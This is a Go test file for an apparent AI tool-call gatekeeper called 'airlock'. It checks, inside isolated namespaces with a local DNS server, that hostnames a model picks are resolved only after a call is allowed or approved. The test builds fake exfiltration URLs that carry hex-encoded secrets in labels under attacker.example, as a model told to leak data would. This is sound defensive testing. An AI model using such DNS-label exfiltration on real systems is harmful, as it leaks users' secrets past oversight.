package main

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"testing"

	"airlock.dev/airlock/netnstest"
	"airlock.dev/airlock/tool"
)

// lookupNamespaceEnv marks the copy of the test binary that runs inside
// the network and mount namespaces TestNoLookupBeforeRun creates; its
// value names the starting process's mount namespace.
const lookupNamespaceEnv = "AIRLOCK_TEST_LOOKUP_NAMESPACE"

// lookupAnswer is the address the test's DNS server gives every A
// query: private, so that a call that runs is refused at dial time, and
// nothing is ever sent to it.
var lookupAnswer = netip.AddrFrom4([4]byte{10, 0, 0, 5})

// TestNoLookupBeforeRun: a host name a model chose is resolved only once
// the call may run. A DNS query is itself a message out (its labels can
// carry a secret, as in <hex>.attacker.example), so airlock check, a call
// that asks and a call that is denied must send none; a call that runs
// sends one, which shows the counter counts.
//
// The resolver is the test's own: a DNS server on 127.0.0.1:53 inside a
// new network namespace, named by a resolv.conf bind-mounted over
// /etc/resolv.conf inside a new mount namespace, so that the airlock
// processes the test starts there reach that server and nothing else.
// It needs root (CAP_SYS_ADMIN); without it the test fails, never skips.
func TestNoLookupBeforeRun(t *testing.T) {
	if outer, inside := netnstest.Inside(lookupNamespaceEnv); inside {
		lookupInNamespace(t, outer)
		return
	}
	out, err := netnstest.Reexec(t, "^TestNoLookupBeforeRun$", lookupNamespaceEnv, nil)
	if err != nil {
		t.Fatalf("inside the namespaces: %v\n%s", err, out)
	}
	t.Logf("inside the namespaces:\n%s", out)
}

// lookupInNamespace is the test proper, in its own namespaces; outer
// names the mount namespace of the process that started it.
func lookupInNamespace(t *testing.T, outer string) {
	netnstest.Isolate(t, outer)
	dns := netnstest.StartDNS(t, func(string) (netip.Addr, bool) { return lookupAnswer, true })
	netnstest.UseResolver(t)

	ws := t.TempDir()
	// AIRLOCK_TEST_SCRIPT keeps TestMain, which the airlock copy of the
	// test binary runs too, from giving each process a config directory
	// (and so an approval key) of its own.
	env := []string{"XDG_CONFIG_HOME=" + t.TempDir(), "HOME=" + t.TempDir(), "AIRLOCK_TEST_SCRIPT=1"}
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "AIRLOCK_") && !strings.HasPrefix(kv, "XDG_CONFIG_HOME=") && !strings.HasPrefix(kv, "HOME=") {
			env = append(env, kv)
		}
	}
	airlock := func(stdin string, args ...string) callOutput {
		t.Helper()
		cmd := exec.Command("airlock", args...)
		cmd.Env = env
		cmd.Stdin = strings.NewReader(stdin)
		var out, errOut bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errOut
		cmd.Run() // a refusal exits 1; the output says what happened
		var got callOutput
		if args[0] == "check" {
			var line checkLine
			if err := json.Unmarshal(out.Bytes(), &line); err != nil {
				t.Fatalf("airlock %q: %v; stdout %q, stderr %q", args, err, out.String(), errOut.String())
			}
			got.Decision = line.Decision
			if line.Code != "" {
				got.Error = &tool.Error{Code: tool.Code(line.Code), Message: line.Message}
			}
			return got
		}
		if err := json.Unmarshal(out.Bytes(), &got); err != nil {
			t.Fatalf("airlock %q: %v; stdout %q, stderr %q", args, err, out.String(), errOut.String())
		}
		return got
	}
	// host is a name whose first label carries a secret, hex-encoded, as a
	// model told to leak one would write it.
	host := func(secret string) string {
		return hex.EncodeToString([]byte(secret)) + ".attacker.example"
	}
	fetch := func(h string) string { return `{"url":"http://` + h + `/x"}` }
	proposal := func(h string) string { return `{"tool":"web_fetch","args":` + fetch(h) + "}\n" }
	code := func(o callOutput) string {
		if o.Error == nil {
			return ""
		}
		return string(o.Error.Code)
	}
	wantNoQuery := func(what, h string) {
		t.Helper()
		if n := dns.Count(h); n != 0 {
			t.Errorf("%s: %d DNS queries for %s, want none before the call may run", what, n, h)
		}
	}

	// airlock check executes nothing, in any mode: it judges the URL as
	// written.
	for mode, want := range map[string]string{"auto": "allow", "ask": "ask", "read-only": "deny"} {
		h := host("check " + mode)
		got := airlock(proposal(h), "check", "--workspace", ws, "--mode", mode)
		wantNoQuery("airlock check --mode "+mode, h)
		if got.Decision != want {
			t.Errorf("airlock check --mode %s: %s %s, want %s", mode, got.Decision, code(got), want)
		}
	}

	// A call that asks parks an approval and resolves nothing.
	asked := host("asked")
	got := airlock("", "call", "--json", "--workspace", ws, "--mode", "ask", "--session", "s-ask", "web_fetch", fetch(asked))
	if got.Decision != "ask" || code(got) != "approval_required" || got.Approval == nil {
		t.Fatalf("a web_fetch in mode ask: %s %s, approval %v; want ask approval_required with an approval", got.Decision, code(got), got.Approval)
	}
	wantNoQuery("a call that asks", asked)
	approvalID := got.Approval.ID

	// A call that is denied: by the mode, and by the ledger after every
	// guard has passed (its idempotency key was used for another call).
	denied := host("denied by mode")
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "read-only", "web_fetch", fetch(denied))
	if got.Decision != "deny" || code(got) != "denied" {
		t.Fatalf("a web_fetch in mode read-only: %s %s, want deny denied", got.Decision, code(got))
	}
	wantNoQuery("a call the mode denies", denied)

	// A call that runs resolves its host: the counter counts. The answer
	// is a private address, which the dialer refuses.
	ran := host("ran")
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "auto", "--idempotency-key", "k1", "web_fetch", fetch(ran))
	if code(got) != "egress_denied" || !strings.Contains(got.Error.Message, "resolves to 10.0.0.5") {
		t.Fatalf("a web_fetch in mode auto: %s %+v, want egress_denied for the address it resolved to", got.Decision, got.Error)
	}
	if dns.Count(ran) == 0 {
		t.Fatalf("a call that ran sent no DNS query for %s: the counter does not count (queries seen: %q)", ran, dns.Names())
	}

	reused := host("denied by the ledger")
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "auto", "--idempotency-key", "k1", "web_fetch", fetch(reused))
	if got.Decision != "deny" || code(got) != "idempotency_key_reused" {
		t.Fatalf("a reused idempotency key: %s %s, want deny idempotency_key_reused", got.Decision, code(got))
	}
	wantNoQuery("a call the ledger denies", reused)

	// Once a person approves the asked call, it runs, and only then
	// resolves its host.
	cmd := exec.Command("airlock", "approve", "--workspace", ws, approvalID)
	cmd.Env = env
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("airlock approve: %v\n%s", err, out)
	}
	wantNoQuery("an approval", asked)
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "ask", "--session", "s-ask", "web_fetch", fetch(asked))
	if code(got) != "egress_denied" || !strings.Contains(got.Error.Message, "resolves to 10.0.0.5") {
		t.Fatalf("the approved web_fetch: %s %+v, want it run and refused at the dial", got.Decision, got.Error)
	}
	if dns.Count(asked) == 0 {
		t.Fatalf("the approved call sent no DNS query for %s", asked)
	}
}
